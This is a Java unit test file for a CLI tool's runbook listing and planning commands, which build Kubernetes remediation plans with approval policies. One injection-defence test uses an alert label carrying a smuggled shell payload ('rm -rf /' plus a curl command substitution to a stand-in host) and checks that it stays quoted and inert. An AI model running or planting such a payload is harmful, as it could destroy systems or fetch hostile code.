package dev.warden.app.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class RunbookCommandTest {
  @TempDir Path dir;

  private static Path shipped() {
    Path runbooks = Path.of(System.getProperty("warden.repository.root", "../.."), "runbooks");
    Assumptions.assumeTrue(Files.isDirectory(runbooks), "the repository's runbooks/ is not here");
    return runbooks;
  }

  @Test
  void listsOneLinePerRunbook() throws IOException {
    Files.writeString(
        dir.resolve("b.yaml"),
        """
        name: b-second
        description: The second one
        match: { alertname: KubeJobFailed, namespace: { glob: "prod-*" } }
        steps:
          - { id: look, action: kubernetes.get, with: { kind: job } }
          - { id: tell, action: notify, with: { text: hi } }
        """);
    Files.writeString(
        dir.resolve("a.yaml"),
        """
        name: a-first
        description: The first one
        match: { alertname: { regex: "Kube.*" } }
        steps:
          - { id: look, action: kubernetes.get }
        rollback:
          - { id: undo, action: kubernetes.uncordon }
        """);
    Cli cli = Cli.run("runbook", "list", "--dir", dir.toString());
    assertThat(cli.exit()).as(cli.out() + cli.err()).isZero();
    assertThat(cli.out().lines())
        .containsExactly(
            "a-first\t{alertname=regex(\"Kube.*\")}\t1 step + 1 rollback\tThe first one",
            "b-second\t{alertname=\"KubeJobFailed\", namespace=glob(\"prod-*\")}\t2 steps\t"
                + "The second one");
  }

  @Test
  void listsTheShippedRunbooks() {
    Cli cli = Cli.run("runbook", "list", "--dir", shipped().toString());
    assertThat(cli.exit()).as(cli.out()).isZero();
    assertThat(cli.out().lines()).hasSizeGreaterThanOrEqualTo(8);
    assertThat(cli.out())
        .contains("crashloop-restart\t{alertname=\"KubePodCrashLooping\"}\t6 steps\t");
  }

  @Test
  void aBrokenRunbookIsReportedAndExitsOne() throws IOException {
    Path file =
        Files.writeString(
            dir.resolve("x.yaml"),
            """
            name: x
            description: x
            match: { alertname: A }
            steps:
              - { id: a, action: kubernetes.explode }
            """);
    Cli cli = Cli.run("runbook", "list", "--dir", dir.toString());
    assertThat(cli.exit()).isEqualTo(1);
    assertThat(cli.out()).contains(file + ":5:22: unknown step action 'kubernetes.explode'");
  }

  private Path planFixtures() throws IOException {
    Files.createDirectories(dir.resolve("runbooks"));
    Files.createDirectories(dir.resolve("policies"));
    Files.writeString(
        dir.resolve("runbooks/restart.yaml"),
        """
        name: restart-web
        description: Restart a deployment
        match: { alertname: WebDown }
        params:
          namespace: "{{ labels.namespace }}"
          deployment: "{{ labels.deployment }}"
        steps:
          - id: status
            action: kubernetes.get
            with: { namespace: "{{ params.namespace }}", kind: deployment, name: "{{ params.deployment }}" }
          - id: restart
            action: kubernetes.rollout-restart
            with: { namespace: "{{ params.namespace }}", kind: deployment, name: "{{ steps.status.output.name }}" }
            on-failure: rollback
        rollback:
          - id: undo
            action: kubernetes.rollout-undo
            with: { namespace: "{{ params.namespace }}", name: "{{ params.deployment }}" }
        """);
    Files.writeString(
        dir.resolve("policies/p.yaml"),
        """
        groups:
          sre: [U0ALICE01]
        rules:
          - name: reads
            match: { readOnly: true }
            level: autonomous
          - name: shop-changes
            match: { readOnly: false, namespaces: [shop] }
            level: approve-first
            approvals: { approvers: ["@sre"], min: 1, ttl: 30m }
        """);
    return dir;
  }

  private Cli plan(String alertJson, String... more) throws IOException {
    Path root = planFixtures();
    Files.writeString(root.resolve("alert.json"), alertJson);
    String[] args = {
      "runbook",
      "plan",
      "restart-web",
      "--alert",
      root.resolve("alert.json").toString(),
      "--dir",
      root.resolve("runbooks").toString(),
      "--policies",
      root.resolve("policies").toString()
    };
    String[] all = java.util.Arrays.copyOf(args, args.length + more.length);
    System.arraycopy(more, 0, all, args.length, more.length);
    return Cli.run(all);
  }

  @Test
  void plansEveryStepWithItsDecisionAndCommandWithoutACluster() throws IOException {
    Cli cli =
        plan(
            """
            {"labels": {"alertname": "WebDown", "namespace": "shop", "deployment": "web"},
             "annotations": {}}
            """);

    assertThat(cli.exit()).as(cli.err()).isZero();
    assertThat(cli.out())
        .contains("runbook restart-web")
        .contains("param deployment = web")
        .contains("1. status  kubernetes.get  autonomous (rule reads)")
        .contains(
            "2. restart  kubernetes.rollout-restart  approve-first (rule shop-changes),"
                + " 1 of @sre within 30m")
        .contains("name: <steps.status.output.name>")
        .contains("on rollback:")
        .contains("3. undo  kubernetes.rollout-undo  approve-first")
        .contains("by hand: kubectl -n shop rollout undo deployment/web");
  }

  @Test
  void plansTheFirstAlertOfAnAlertmanagerNotificationAsJson() throws IOException {
    Cli cli =
        plan(
            """
            {"receiver": "warden", "status": "firing", "alerts": [
              {"status": "firing", "labels": {"alertname": "WebDown", "namespace": "other", "deployment": "api"},
               "annotations": {"summary": "down"}}]}
            """,
            "--json");

    assertThat(cli.exit()).as(cli.err()).isZero();
    tools.jackson.databind.JsonNode plan =
        tools.jackson.databind.json.JsonMapper.builder().build().readTree(cli.out());
    assertThat(plan.get("runbook").asString()).isEqualTo("restart-web");
    assertThat(plan.get("steps").size()).isEqualTo(3);
    assertThat(plan.get("steps").get(1).get("decision").get("level").asString())
        .isEqualTo("passive");
    assertThat(plan.get("steps").get(0).get("parameters").get("name").asString()).isEqualTo("api");
  }

  @Test
  void aHostileLabelValueIsOneInertArgumentOfTheCommand() throws IOException {
    Cli cli =
        plan(
            """
            {"labels": {"alertname": "WebDown", "namespace": "shop",
                        "deployment": "web; rm -rf / $(curl evil) {{ params.namespace }}"}}
            """);

    assertThat(cli.exit()).as(cli.err()).isZero();
    assertThat(cli.out())
        .contains("name: web; rm -rf / $(curl evil) {{ params.namespace }}")
        .contains("rollout undo 'deployment/web; rm -rf / $(curl evil) {{ params.namespace }}'");
  }

  @Test
  void anAlertWithoutALabelTheRunbookNeedsIsRefusedNamingIt() throws IOException {
    Cli cli = plan("{\"labels\": {\"alertname\": \"WebDown\", \"namespace\": \"shop\"}}");

    assertThat(cli.exit()).isEqualTo(2);
    assertThat(cli.err()).contains("runbook plan:").contains("deployment");
    assertThat(cli.out()).isEmpty();
  }

  @Test
  void anUnknownRunbookOrABrokenAlertFileExitsTwo() throws IOException {
    Cli unknown =
        Cli.run(
            "runbook",
            "plan",
            "nope",
            "--alert",
            "x.json",
            "--dir",
            planFixtures().resolve("runbooks").toString());
    assertThat(unknown.exit()).isEqualTo(2);
    assertThat(unknown.err()).contains("no runbook nope").contains("restart-web");

    Cli broken = plan("{\"labels\": [");
    assertThat(broken.exit()).isEqualTo(2);
    assertThat(broken.err()).contains("not JSON");
  }
}
